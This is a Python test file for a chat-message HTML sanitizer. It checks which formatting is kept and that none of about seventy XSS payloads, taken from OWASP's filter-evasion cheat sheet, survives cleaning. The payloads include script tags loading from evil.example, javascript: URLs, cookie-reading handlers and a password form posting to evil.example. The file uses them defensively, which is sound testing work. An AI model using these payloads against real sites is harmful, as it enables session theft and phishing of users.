"""Formatted text: what stays, what goes, and the attacks that OWASP lists."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.messages.html import ATTRIBUTES, DEEPEST, MOST_TAGS, TAGS, clean

REL = 'rel="noopener noreferrer nofollow"'
KEPT: list[tuple[str, str]] = [
    ("<b>80</b> <em>guests</em>", "<b>80</b> <em>guests</em>"),
    ("a<br>b", "a<br>b"),
    ("<ul><li>one</li></ul>", "<ul><li>one</li></ul>"),
    ('<ol start="3"><li>three</li></ol>', '<ol start="3"><li>three</li></ol>'),
    ('<a href="https://e.org/?a=1&amp;b=2">menu</a>', f'<a href="https://e.org/?a=1&amp;b=2" {REL}>menu</a>'),
    ('<a href="mailto:a@example.org">mail</a>', f'<a href="mailto:a@example.org" {REL}>mail</a>'),
    ('<pre><code class="language-python">x = 1</code></pre>',) * 2,
    ('<span data-mx-spoiler="">cake</span>',) * 2,
    ('<span data-mx-color="#ff0000">red</span>',) * 2,
    ("<table><tbody><tr><td>1</td></tr></tbody></table>",) * 2,
    ("<details><summary>more</summary>text</details>",) * 2,
    ("Fish &amp; chips &lt; 10", "Fish &amp; chips &lt; 10"),
    ("unclosed <b>bold", "unclosed <b>bold</b>"),
    # The quotation that older clients repeat before an answer.
    ("<mx-reply><blockquote>old</blockquote></mx-reply>new", "new"),
    # Of what is not allowed the text stays, unless it is no text.
    ("<font color=red>red</font>", "red"),
    ("<button>Pay</button>", "Pay"),
    ("<style>b {}</style>text", "text"),
    # Control characters, as themselves and as entities; half a character.
    ("a\x00b\x08c", "abc"),
    ("a&#8;b", "ab"),
    ("a\ud800b", "a?b"),
    ("a\nb\tc", "a\nb\tc"),
    # What turns around what follows, as itself, as an entity and in an attribute.
    ("<p>\u2067a <b>b</b></p>c", "<p>\u2067a <b>b</b>\u2069</p>c"),
    ("a&#x202e;b", "ab"),
    ('<span data-mx-spoiler="\u202ea">b</span>', '<span data-mx-spoiler="a">b</span>'),
]  # fmt: skip


@pytest.mark.parametrize(("html", "cleaned"), KEPT)
def test_what_clients_show_stays(html: str, cleaned: str) -> None:
    assert clean(html) == cleaned


ATTACKS = [
    # OWASP, "XSS Filter Evasion Cheat Sheet", in its order.
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<a href="javascript:alert(String.fromCharCode(88,83,83))">Click Me!</a>',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG SRC=# onmouseover="alert(\'xxs\')">',
    '<IMG SRC= onmouseover="alert(\'xxs\')">',
    '<IMG onmouseover="alert(\'xxs\')">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x29>",
    '<a href="jav\tascript:alert(\'XSS\');">x</a>',
    '<a href="jav&#x09;ascript:alert(\'XSS\');">x</a>',
    '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>',
    '<a href="jav&#x0D;ascript:alert(\'XSS\');">x</a>',
    '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=http://evil.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
    '<IMG DYNSRC="javascript:alert(\'XSS\')">',
    '<IMG LOWSRC="javascript:alert(\'XSS\')">',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg/onload=alert('XSS')>",
    '<BGSOUND SRC="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<span style="width: expression(alert(1));">x</span>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(1)">x',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<?xml version="1.0"?><html:html><html:script>alert(1)</html:script></html:html>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="https://x.example" onclick="alert(1)" style="position:fixed" id="x" name="x" target="_top">x</a>',
    "<form action=https://evil.example><input name=password></form>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<img src=https://evil.example/who-reads-this.gif>seen",
    "<img src=mxc://evil.example/abc>seen",
    '<span data-mx-color="red;background:url(javascript:alert(1))">x</span>',
    '<code class="language-js x-evil">x</code>',
]  # fmt: skip


class Shown(HTMLParser):
    """What a browser would make of it: everything that is not on our lists."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else frozenset())
        if tag not in TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            if name not in allowed:
                self.bad.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?|mailto|matrix):", value or ""):
                self.bad.append(f"{name}={value}")
            if name == "class" and " " in (value or ""):
                self.bad.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.bad.append(f"<?{data}")


def harm(html: str) -> list[str]:
    shown = Shown()
    shown.feed(html)
    shown.close()
    return shown.bad


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_could_do_harm_stays(attack: str) -> None:
    cleaned = clean(f"{attack} text")
    assert harm(cleaned or "") == []
    assert cleaned is None or clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "attack", ['<a href="javascript:x">x</a>', "<img src=x>", "<b onclick=x>x</b>", "<!--x-->"]
)
def test_control_what_does_harm_is_found(attack: str) -> None:
    assert harm(attack)


PIECES = st.sampled_from(
    [*ATTACKS, "<", ">", '"', "'", "`", "&", "&lt;", "&#x3c;", "</", "<!--", "-->", "]]>", "<b>", "<a href=", "x"]
)  # fmt: skip


@given(st.lists(PIECES | st.text(max_size=5), max_size=8))
def test_no_mixture_of_them_does_either(pieces: list[str]) -> None:
    cleaned = clean("".join(pieces))
    assert harm(cleaned or "") == []


@pytest.mark.parametrize(
    ("html", "stays"),
    [
        ("<b>" * DEEPEST + "x" + "</b>" * DEEPEST, True),
        ("<b>" * (DEEPEST + 1) + "x" + "</b>" * (DEEPEST + 1), False),
        ("<i>x</i>" * (MOST_TAGS // 2), True),
        ("<i>x</i>" * (MOST_TAGS // 2) + "<br>", False),
        ("", False),
        (" \n<br>&nbsp;<b> </b>", False),
        ("<img src=x>", False),
    ],
)
def test_what_cannot_be_shown_is_left_out(html: str, *, stays: bool) -> None:
    assert (clean(html) is not None) == stays
